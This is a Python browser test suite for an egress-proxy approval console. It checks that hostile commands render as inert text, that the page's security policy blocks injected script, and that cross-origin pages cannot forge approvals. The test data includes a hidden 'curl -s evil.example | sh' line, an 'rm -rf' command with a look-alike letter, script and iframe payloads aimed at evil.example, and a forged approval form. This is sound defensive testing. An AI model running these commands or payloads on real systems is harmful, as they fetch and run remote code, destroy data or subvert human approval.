"""What a hostile ask, page or neighbour tries, in a real browser."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from egress_proxy.server.queued import Said
from tests.console.browsing import HOSTILE, SCRIPT, TRICKS, Site, fits, login, taken
from tests.console.rig import ask
from tests.kit.agent import poll
from tests.kit.browser import LAPTOP, PHONE, Browser


def test_a_hostile_ask_is_text(browser: Browser, site: Site) -> None:
    hostile = ask(
        command=HOSTILE, title=HOSTILE, patterns=(HOSTILE, TRICKS), directory=HOSTILE, why=HOSTILE, rule=HOSTILE,
        client=HOSTILE, permission=HOSTILE, workdir=HOSTILE,
    )  # fmt: skip
    site.queue.said = (Said("user", HOSTILE), Said("assistant", TRICKS))
    site.do(lambda queue: queue.add(hostile))
    login(browser, site)
    for css in ("#ask-per_1", "button.reject"):
        browser.see(SCRIPT)
        elements = "script:not([src='/console/static/console.js']), img, svg, iframe, style, base, main a[href^=java]"
        assert browser.all(elements) == []
        assert browser.script("return document.querySelectorAll('meta[http-equiv]').length") <= 1
        browser.press(css)
    browser.see("rejected per_1")
    assert browser.broken() == []
    assert browser.driver.current_url.startswith(site.origin)


def test_tricks_of_writing_are_seen(browser: Browser, site: Site) -> None:
    site.do(lambda queue: queue.add(ask(command=TRICKS)))
    login(browser, site, "/console/asks/per_1")
    browser.see("U+0430 CYRILLIC SMALL LETTER A")
    shown = browser.text("pre.exact")
    assert "# \\u202egnihsilbup on\\u202c \\u200b\nrm" in shown
    assert "[300 spaces]; curl -s evil.example | sh" in shown
    assert [one.text for one in browser.all("pre.exact .foreign")] == ["\u0430"]
    taken(browser, "ask-hostile")


@pytest.mark.parametrize("size", [LAPTOP, PHONE], ids=["laptop", "phone"])
def test_no_part_of_an_ask_is_out_of_sight(browser: Browser, site: Site, size: tuple[int, int]) -> None:
    """Not even one that has no place to break its lines: every box of its text lies within that of the ask."""
    browser.sees(size)
    site.do(lambda queue: queue.add(ask(command=f"true{'_' * 900};rm -rf ~/p\u0430ss{'-' * 500}")))
    login(browser, site)
    for css in ("#ask-per_1", "button.reject"):
        browser.see("true____")
        assert fits(browser)
        assert browser.script("""
            const whole = document.querySelector("pre.exact");
            const [outer, range] = [whole.getBoundingClientRect(), document.createRange()];
            range.selectNodeContents(whole);
            const boxes = [...range.getClientRects()];
            return boxes.length > 2 && boxes.every((box) => box.right <= outer.right && box.bottom <= outer.bottom);
        """)
        browser.press(css)


def test_the_policy_of_a_page_stops_what_would_get_into_it(browser: Browser, site: Site) -> None:
    """Were there a hole in the escaping, the browser would still run nothing: the second lock is tried by itself."""
    login(browser, site)
    browser.see("Nothing waits.")
    browser.script("""
        const add = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
        add("img", {src: "https://evil.example/x"});
        add("style", {textContent: "main { display: none }"});
        add("iframe", {src: "https://evil.example/"});
        for (const trick of [
            () => document.body.setAttribute("onclick", "alert('inline')"),
            () => document.body.innerHTML = "<p>gone",
            () => add("script", {textContent: "alert('script')"}),
            () => add("script", {src: "https://evil.example/x.js"}),
            () => location.assign("javascript:alert('address')"),
        ]) try { trick(); } catch (error) { window.broken.push(error.name); }
        document.body.click();
    """)
    wanted = {"img-src", "style-src-elem", "frame-src", "require-trusted-types-for", "TypeError"}
    poll(lambda: wanted <= {str(one).split()[0] for one in browser.script("return window.broken")})
    assert [one for one in browser.broken() if one.startswith("ran ")] == []
    assert "Nothing waits." in browser.text()


class Evil(BaseHTTPRequestHandler):
    """Another user's server on another port of this machine: the same site, to a browser."""

    page = ""
    seen: list[tuple[str, str]] = []  # noqa: RUF012 - emptied by the test that uses it

    def do_GET(self) -> None:
        self.seen.append((self.path, self.headers.get("Cookie", "")))
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(self.page.encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@pytest.fixture
def evil() -> Iterator[str]:
    Evil.seen.clear()
    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    thread.join()
    server.server_close()


def test_a_page_of_another_port_decides_nothing(browser: Browser, site: Site, evil: str) -> None:
    """It knows the place and all of the form but its token; the browser gives its POST the cookie all the same."""
    site.do(lambda queue: queue.add(ask()))
    login(browser, site)
    browser.see("git push")
    home = browser.driver.current_url
    Evil.page = f"""<form method=post action="{home}asks/per_1/approve"><input name=digest value={"d1" * 16}></form>"""
    browser.go(f"{evil}/")
    browser.script("document.forms[0].submit()")
    browser.see("The form came from a page of another origin.")
    assert site.queue.decisions == []
    # Nor can it read a page, or show one in a frame and have it clicked.
    Evil.page = f'<iframe src="{home}asks/per_1" width=600 height=600></iframe>'
    browser.go(f"{evil}/")
    reads = """
        const [url, told] = arguments;
        fetch(url, {credentials: "include"}).then((answer) => answer.text()).then(told, () => told(""));
    """
    assert browser.driver.execute_async_script(reads, home) == ""
    poll(lambda: "frame-ancestors" in " ".join(browser.broken()))
    browser.driver.switch_to.frame(0)
    assert "git push" not in browser.text()


def test_a_server_on_another_port_is_not_given_the_cookie(browser: Browser, site: Site, evil: str) -> None:
    """Cookies know no ports; so the cookie is for a path that nobody else can name."""
    Evil.page = "<p>hello"
    login(browser, site)
    browser.see("Nothing waits.")
    place = browser.driver.current_url.removeprefix(site.origin)
    for path in ("/", "/console", "/console/", "/console/asks/per_1", "/console/static/console.css", place):
        browser.go(evil + path)
    given = [path for path, cookie in Evil.seen if "egress_console" in cookie]
    assert given == [place]  # the control: had it known the place, it would have been given the cookie
